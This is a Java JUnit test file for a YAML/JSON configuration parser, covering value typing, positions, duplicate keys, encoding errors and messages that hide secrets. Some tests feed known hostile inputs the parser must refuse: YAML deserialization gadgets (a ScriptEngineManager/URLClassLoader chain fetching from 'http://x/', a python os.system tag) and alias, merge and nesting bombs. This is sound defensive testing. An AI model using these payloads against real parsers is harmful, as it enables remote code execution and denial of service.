package dev.wadi.config;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import java.math.BigDecimal;
import java.math.BigInteger;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.junit.jupiter.api.Assertions;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class DocumentsTest {

    private static Node yaml(String text) {
        return Documents.yaml("a.yaml", text);
    }

    private static String problemsOfYaml(String text) {
        return problems(() -> yaml(text));
    }

    private static String problemsOfJson(String text) {
        return problems(() -> Documents.json("a.json", text));
    }

    private static String problems(org.assertj.core.api.ThrowableAssert.ThrowingCallable code) {
        ConfigurationException thrown = catchThrowableOfType(ConfigurationException.class, code);
        return thrown == null ? "none" : String.valueOf(thrown.getMessage());
    }

    private static Object value(String scalar) {
        Node.Scalar node = (Node.Scalar) yaml(scalar);
        return String.valueOf(node.value()) + " "
                + (node.value() == null ? "" : node.value().getClass().getSimpleName());
    }

    @Test
    void everyValueHasItsPlace() {
        Node.Mapping document = (Node.Mapping) yaml("# a comment\na: 1\nb:\n  - x\n  - {c: y}\n");
        assertThat(document.place()).hasToString("a.yaml:2:1");
        Node.Sequence list = (Node.Sequence) document.get("b").orElseThrow();
        assertThat(list.items())
                .extracting(Node::place)
                .extracting(Place::toString)
                .containsExactly("a.yaml:4:5", "a.yaml:5:5");
        assertThat(((Node.Mapping) list.items().get(1)).get("c").orElseThrow().place())
                .hasToString("a.yaml:5:9");
    }

    @Test
    void scalarsAreWhatYaml12SaysAndKeepTheirText() {
        assertThat(value("0123")).isEqualTo("123 Long");
        assertThat(((Node.Scalar) yaml("0123")).text()).isEqualTo("0123");
        assertThat(value("1.10")).isEqualTo("1.10 BigDecimal");
        assertThat(value("12345678901234567890")).isEqualTo("12345678901234567890 BigInteger");
        assertThat(value("0x1F")).isEqualTo("31 Long");
        assertThat(value("0o17")).isEqualTo("15 Long");
        assertThat(value("1e3")).isEqualTo("1E+3 BigDecimal");
        assertThat(value(".inf")).isEqualTo("Infinity Double");
        assertThat(value("True")).isEqualTo("true Boolean");
        assertThat(value("~")).isEqualTo("null ");
        for (String text :
                List.of("None", "yes", "on", "1_000", "12:30:45", "2020-01-01", "1.2.3", "0b1", "'1'", "\"true\"")) {
            assertThat(value(text)).asString().endsWith("String");
        }
    }

    @Test
    void jsonNumbersAreExactToo() {
        Node.Sequence list =
                (Node.Sequence) Documents.json("a.json", "[1, 1.10, 12345678901234567890, true, null, \"x\"]");
        assertThat(list.items())
                .extracting(item -> ((Node.Scalar) item).value())
                .containsExactly(1L, new BigDecimal("1.10"), new BigInteger("12345678901234567890"), true, null, "x");
        assertThat(list.items().get(1).place()).hasToString("a.json:1:5");
    }

    @Test
    void absurdNumbersStayText() {
        assertThat(value("1e999999999")).isEqualTo("1e999999999 String");
        assertThat(value("1e99999999999")).isEqualTo("1e99999999999 String");
        assertThat(value("9".repeat(100_000))).asString().endsWith("String");
    }

    @Test
    void mergeKeysAreFollowedAndOwnKeysWin() {
        Node.Mapping document = (Node.Mapping)
                yaml(
                        """
                base: &base {a: 1, b: 2}
                more: &more {b: 3, c: 4}
                one:
                  b: own
                  <<: [*base, *more]
                quoted: {"<<": text}
                """);
        Node.Mapping one = (Node.Mapping) document.get("one").orElseThrow();
        assertThat(one.entries().stream().map(entry -> entry.key().text() + "=" + ((Node.Scalar) entry.value()).text()))
                .containsExactly("b=own", "a=1", "c=4");
        assertThat(((Node.Mapping) document.get("quoted").orElseThrow()).get("<<"))
                .isPresent();
    }

    @Test
    void aMergeOfSomethingElseIsAProblem() {
        assertThat(problemsOfYaml("a:\n  <<: x\n"))
                .isEqualTo("a.yaml:2:7: << takes a mapping or a list of mappings."
                        + " Write <<: *name with the alias of a mapping, or put '<<' into quotes.");
    }

    @Test
    void allDuplicateKeysAreReportedWithBothLines() {
        assertThat(problemsOfYaml("a: 1\nb: 1\na: 2\nb: 3\n"))
                .isEqualTo(
                        """
                a.yaml:3:1: the key 'a' is there twice, first on line 1. Remove one of the two.
                a.yaml:4:1: the key 'b' is there twice, first on line 2. Remove one of the two.""");
        assertThat(problemsOfJson("{\"a\": 1,\n \"a\": 2}"))
                .isEqualTo("a.json:2:2: the key 'a' is there twice, first on line 1. Remove one of the two.");
    }

    @ParameterizedTest(name = "S-24 {0}")
    @ValueSource(
            strings = {
                "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]",
                "a: !!java.net.URL [\"http://localhost/\"]",
                "a: !custom x",
                "!<tag:example.com,2000:app/foo> {a: 1}",
                "a: !!binary aGVsbG8=",
                "a: !!set {x}",
                "a: !!python/object/apply:os.system [ls]",
                "%TAG ! tag:example.com,2000:\n---\na: !x y"
            })
    void tagsAreRefused(String text) {
        assertThat(problemsOfYaml(text)).contains(" is not allowed. Remove it, or put the value into quotes.");
    }

    @Test
    void theMessageNamesTheTag() {
        assertThat(problemsOfYaml("a: !!java.net.URL [\"http://localhost/\"]\nb: !x 1\n"))
                .isEqualTo(
                        """
                a.yaml:1:4: the tag !!java.net.URL is not allowed. Remove it, or put the value into quotes.
                a.yaml:2:4: the tag !x is not allowed. Remove it, or put the value into quotes.""");
    }

    @Test
    void tagsOfTheCoreSchemaAreUnderstood() {
        assertThat(value("!!str 0123")).isEqualTo("0123 String");
        assertThat(value("!!int 12")).isEqualTo("12 Long");
        assertThat(value("! 12")).isEqualTo("12 String");
        assertThat(problemsOfYaml("!!int x"))
                .isEqualTo("a.yaml:1:1: the value is not what its tag says. Remove the tag.");
    }

    @Test
    void anAliasBombIsRefusedQuickly() {
        StringBuilder bomb = new StringBuilder("a0: &a0 [x, x, x, x, x, x, x, x, x]\n");
        for (int i = 1; i < 30; i++) {
            String alias = "*a" + (i - 1);
            bomb.append("a" + i + ": &a" + i + " [")
                    .append(IntStream.range(0, 9).mapToObj(j -> alias).collect(Collectors.joining(", ")))
                    .append("]\n");
        }
        Assertions.assertTimeout(Duration.ofSeconds(5), () -> assertThat(problemsOfYaml(bomb.toString()))
                .isEqualTo("a.yaml:7:10: more than 1000000 values, those that aliases repeat included."
                        + " Divide the file, or use fewer aliases."));
    }

    @Test
    void aMergeBombIsRefusedQuickly() {
        StringBuilder bomb = new StringBuilder("base: &base {");
        IntStream.range(0, 2000).forEach(i -> bomb.append("k" + i + ": 1, "));
        bomb.append("}\n");
        IntStream.range(0, 2000).forEach(i -> bomb.append("m" + i + ": {<<: *base}\n"));
        Assertions.assertTimeout(Duration.ofSeconds(5), () -> assertThat(problemsOfYaml(bomb.toString()))
                .contains("more than 1000000 values"));
    }

    @Test
    void aliasesThatNestDeeplyAreRefused() {
        StringBuilder chain = new StringBuilder("a0: &a0 [x]\n");
        IntStream.range(1, 200).forEach(i -> chain.append("a" + i + ": &a" + i + " [*a" + (i - 1) + "]\n"));
        assertThat(problemsOfYaml(chain.toString()))
                .isEqualTo("a.yaml:100:12: is nested more than 100 levels deep. Write it flatter.");
    }

    @Test
    void anAliasInsideItselfIsRefused() {
        assertThat(problemsOfYaml("a: &a [1, *a]\n"))
                .isEqualTo("a.yaml:1:11: the alias *a is inside what it repeats. Remove it.");
    }

    @Test
    void anAliasWithoutAnAnchorIsAProblem() {
        assertThat(problemsOfYaml("password: *secret\n"))
                .isEqualTo("a.yaml:1:11: there is no anchor for the alias *secret."
                        + " Define &secret above, or put the value into quotes.");
    }

    @Test
    void aMillionLevelsAreRefusedQuickly() {
        Assertions.assertTimeout(Duration.ofSeconds(5), () -> {
            assertThat(problemsOfYaml("a: " + "[".repeat(1_000_000)))
                    .isEqualTo("a.yaml:1:104: is nested more than 100 levels deep. Write it flatter.");
            assertThat(problemsOfYaml("a: " + "{x: ".repeat(1_000_000))).contains("more than 100 levels deep");
            assertThat(problemsOfYaml("- ".repeat(1_000_000))).contains("more than 100 levels deep");
            assertThat(problemsOfJson("[".repeat(1_000_000))).contains("more than 100 levels deep");
        });
    }

    @Test
    void aLargeFileIsRefusedBeforeItIsRead(@TempDir Path folder) throws Exception {
        Path file = folder.resolve("big.yaml");
        try (var channel = java.nio.channels.FileChannel.open(
                file, java.nio.file.StandardOpenOption.CREATE, java.nio.file.StandardOpenOption.WRITE)) {
            channel.position(100L * 1024 * 1024);
            channel.write(java.nio.ByteBuffer.wrap(new byte[] {'a'}));
        }
        assertThat(problems(() -> Documents.text(file)))
                .isEqualTo(file + ": is larger than 10 MB. Divide it into several files.");
    }

    @Test
    void filesThatAreNotUtf8AreRefused() {
        assertThat(problems(() -> Documents.text("a.yaml", "a: 1".getBytes(StandardCharsets.UTF_16))))
                .isEqualTo("a.yaml: is not in UTF-8 but, it seems, in UTF-16. Save it as plain text in UTF-8.");
        assertThat(problems(() -> Documents.text("a.yaml", "a: 1".getBytes(StandardCharsets.UTF_16LE))))
                .isEqualTo("a.yaml: is not in UTF-8 but, it seems, in UTF-16. Save it as plain text in UTF-8.");
        assertThat(problems(() -> Documents.text("a.yaml", "a: é\nb: ü".getBytes(StandardCharsets.ISO_8859_1))))
                .isEqualTo("a.yaml:1:4: a byte that is not UTF-8. Save it as plain text in UTF-8.");
        assertThat(problems(() -> Documents.text("a.yaml", "a: 1\nb: \0".getBytes(StandardCharsets.UTF_8))))
                .isEqualTo("a.yaml:2:4: a NUL character. Save it as plain text in UTF-8.");
        assertThat(problems(() -> Documents.text("a.yaml", new byte[] {'a', (byte) 0xC3})))
                .isEqualTo("a.yaml:1:2: a byte that is not UTF-8. Save it as plain text in UTF-8.");
    }

    @Test
    void aByteOrderMarkIsDropped() {
        assertThat(Documents.text("a.yaml", "\uFEFFa: 1".getBytes(StandardCharsets.UTF_8)))
                .isEqualTo("a: 1");
        assertThat(Documents.text("a.yaml", new byte[0])).isEmpty();
    }

    @Test
    void filesThatCannotBeReadAreProblems(@TempDir Path folder) throws Exception {
        assertThat(problems(() -> Documents.text(folder)))
                .isEqualTo(folder + ": is not a regular file. Remove it from the folder.");
        Path missing = folder.resolve("missing.yaml");
        assertThat(problems(() -> Documents.text(missing))).isEqualTo(missing + ": does not exist. Check the name.");
        Path loop = Files.createSymbolicLink(folder.resolve("loop.yaml"), folder.resolve("loop.yaml"));
        assertThat(problems(() -> Documents.text(loop))).startsWith(loop + ": cannot be read: ");
    }

    @Test
    void aSecondDocumentIsAProblem() {
        assertThat(problemsOfYaml("a: 1\n---\nb: 2\n"))
                .isEqualTo("a.yaml:2:1: a second document. Put it into a file of its own.");
        assertThat(problemsOfJson("{} {}")).isEqualTo("a.json:1:4: text after the end of the document. Remove it.");
    }

    @Test
    void anEmptyDocumentIsNullInYamlAndAProblemInJson() {
        assertThat(((Node.Scalar) yaml("# only a comment\n")).value()).isNull();
        assertThat(problemsOfJson(" ")).isEqualTo("a.json: is empty. Write {} if nothing is meant.");
    }

    @Test
    void brokenYamlIsOneProblemThatDoesNotShowTheLine() {
        assertThat(problemsOfYaml("a:\n\tb: hunter2\n"))
                .isEqualTo("a.yaml:2:1: is not YAML: found character '\\t(TAB)' that cannot start any token."
                        + " Indent with spaces.");
        assertThat(problemsOfYaml("password: hunter2: x\n"))
                .isEqualTo("a.yaml:1:18: is not YAML: mapping values are not allowed here."
                        + " Check the indentation, and put a value that holds ': ' into quotes.");
        assertThat(problemsOfYaml("password: %hunter2\n"))
                .isEqualTo("a.yaml:1:11: is not YAML: found character '%' that cannot start any token."
                        + " Put a value that begins with this character into quotes.");
        assertThat(problemsOfYaml("password: \"hunter2\n"))
                .isEqualTo("a.yaml:2:1: is not YAML: found unexpected end of stream."
                        + " Close the quotes or brackets that are open.");
        assertThat(problemsOfYaml("password: \"C:\\hunter2\"\n"))
                .isEqualTo("a.yaml:1:15: is not YAML: found unknown escape character h(104)."
                        + " Use single quotes, in which a backslash is only a backslash.");
        assertThat(problemsOfYaml("a: b\n  c: d\n")).startsWith("a.yaml:2:4: is not YAML: mapping values");
        assertThat(problemsOfYaml("a: {{env:X}}\n"))
                .isEqualTo(
                        "a.yaml:1:5: a key that is not a single word. Put a value that begins with { or [ into quotes.");
        assertThat(problemsOfYaml("a: \u0007\n"))
                .isEqualTo("a.yaml:1:4: the character U+0007, which YAML does not"
                        + " allow. Remove it, or write it as an escape in double quotes.");
    }

    @Test
    void brokenJsonIsOneProblemThatDoesNotShowTheValue() {
        assertThat(problemsOfJson("{\"password\": hunter2}"))
                .isEqualTo("a.json:1:21: is not JSON: a word that is not in double quotes."
                        + " Check quotes, commas and brackets here and on the line before.");
        assertThat(problemsOfJson("{\"a\": 1,}"))
                .isEqualTo("a.json:1:9: is not JSON: unexpected '}'."
                        + " Check quotes, commas and brackets here and on the line before.");
        assertThat(problemsOfJson("{\"a\": \"hunter2"))
                .isEqualTo("a.json:1:15: is not JSON: it ends too early." + " Close what is open: quotes, ] and }.");
        assertThat(problemsOfJson("{\"a\": \"hun\nter\"}"))
                .isEqualTo("a.json:1:11: is not JSON: a line break or a control character inside a string."
                        + " Check quotes, commas and brackets here and on the line before.");
        for (String text : List.of(
                "{'a': 1}",
                "[NaN]",
                "[01]",
                "[1.]",
                "{a: 1}",
                "[\"\\x\"]",
                "// c\n{}",
                "[1 2]",
                "{\"a\" 1}",
                "+1",
                "hunter2",
                "[hunter2]",
                "[-hunter2]",
                "[truehunter2]")) {
            assertThat(problemsOfJson(text))
                    .startsWith("a.json:")
                    .contains("is not JSON: ")
                    .doesNotContain("hunter2");
        }
    }
}
